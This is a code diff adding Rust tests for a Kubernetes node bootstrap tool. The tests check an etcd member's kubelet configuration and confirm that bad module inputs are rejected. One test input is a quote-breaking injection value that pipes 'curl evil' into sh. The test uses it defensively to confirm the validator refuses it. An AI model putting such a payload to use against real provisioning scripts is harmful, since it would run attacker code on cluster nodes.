@@ -486,6 +486,38 @@ struct JoinControlPlane {
     local_api_endpoint: ApiEndpoint,
 }
 
+/// kubelet.config.k8s.io/v1beta1, for the etcd member's standalone kubelet.
+#[derive(Debug, Deserialize)]
+#[serde(rename_all = "camelCase", deny_unknown_fields)]
+struct KubeletConfiguration {
+    api_version: String,
+    kind: String,
+    cgroup_driver: String,
+    address: String,
+    static_pod_path: String,
+    authentication: KubeletAuthentication,
+    authorization: KubeletAuthorization,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct KubeletAuthentication {
+    anonymous: Enabled,
+    webhook: Enabled,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Enabled {
+    enabled: bool,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct KubeletAuthorization {
+    mode: String,
+}
+
 #[derive(Debug)]
 enum KubeadmDoc {
     Init(InitConfiguration),
@@ -891,7 +923,22 @@ fn bootstrap_external_and_stacked_etcd() {
     assert_eq!(arg("advertise-client-urls"), "https://10.0.1.20:2379");
     let files = write_files(&fixture().user_data["etcd"]);
     let dropin = &files["/etc/systemd/system/kubelet.service.d/20-etcd-service-manager.conf"].0;
-    assert!(dropin.contains("ExecStart=\nExecStart=/usr/bin/kubelet --config="));
+    assert!(dropin.contains(
+        "ExecStart=\nExecStart=/usr/bin/kubelet --config=/etc/systemd/system/kubelet.service.d/kubelet.conf "
+    ));
+    let kubelet: KubeletConfiguration = typed(
+        yaml_documents(&files["/etc/systemd/system/kubelet.service.d/kubelet.conf"].0).remove(0),
+    )
+    .unwrap();
+    assert_eq!(
+        (kubelet.api_version.as_str(), kubelet.kind.as_str()),
+        ("kubelet.config.k8s.io/v1beta1", "KubeletConfiguration")
+    );
+    assert_eq!(kubelet.cgroup_driver, "systemd");
+    assert_eq!(kubelet.static_pod_path, "/etc/kubernetes/manifests");
+    assert_eq!(kubelet.address, "127.0.0.1");
+    assert!(!kubelet.authentication.anonymous.enabled && !kubelet.authentication.webhook.enabled);
+    assert_eq!(kubelet.authorization.mode, "AlwaysAllow");
     // Only the dedicated member replaces the kubelet's service.
     for (instance, user_data) in &fixture().user_data {
         let has = user_data.contains("20-etcd-service-manager.conf");
@@ -950,20 +997,43 @@ fn bootstrap_script_pins_packages_and_reads_the_bundle() {
 }
 
 #[test]
-fn bootstrap_rejects_an_unknown_role() {
-    let dir = tempfile::tempdir().unwrap();
-    let root = dir.path();
-    copy_dir(
-        &Path::new(env!("CARGO_MANIFEST_DIR")).join("modules/node-bootstrap"),
-        &root.join("modules/node-bootstrap"),
-    );
-    std::fs::create_dir_all(root.join(ENV)).unwrap();
-    let env = environment().replacen("role               = \"worker\"", "role = \"master\"", 1);
-    assert!(env.contains("\"master\""));
-    std::fs::write(root.join(ENV).join("main.hcl"), env).unwrap();
-    let r = slipway(root, &["plan", ENV]);
-    assert_ne!(r.code, 0, "plan accepted role \"master\"");
-    assert!(r.all().contains("role must be one of"), "{}", r.all());
+fn bootstrap_rejects_bad_inputs() {
+    let worker_role = "role               = \"worker\"";
+    let worker_uri =
+        "bundle_s3_uri      = \"s3://prod-slipway-bootstrap/nodes/worker-a/bundle.json\"";
+    for (from, to, message) in [
+        (worker_role, "role = \"master\"", "role must be one of"),
+        // Values quoted in the bootstrap script may not break out of their quotes.
+        (
+            worker_uri,
+            "bundle_s3_uri = \"s3://b/x'; curl evil | sh; '\"",
+            "bundle_s3_uri must look like",
+        ),
+        (
+            worker_uri,
+            "bundle_s3_uri = \"https://b/x\"",
+            "bundle_s3_uri must look like",
+        ),
+        (
+            "kubernetes_version = \"1.31.4\"",
+            "kubernetes_version = \"v1.31\"",
+            "kubernetes_version must be",
+        ),
+    ] {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        copy_dir(
+            &Path::new(env!("CARGO_MANIFEST_DIR")).join("modules/node-bootstrap"),
+            &root.join("modules/node-bootstrap"),
+        );
+        std::fs::create_dir_all(root.join(ENV)).unwrap();
+        let env = environment();
+        assert!(env.contains(from), "{from}");
+        std::fs::write(root.join(ENV).join("main.hcl"), env.replacen(from, to, 1)).unwrap();
+        let r = slipway(root, &["plan", ENV]);
+        assert_ne!(r.code, 0, "plan accepted {to}");
+        assert!(r.all().contains(message), "{to}: {}", r.all());
+    }
 }
 
 /// The Python part of the bootstrap script (the heredoc), which writes the bundle and renders
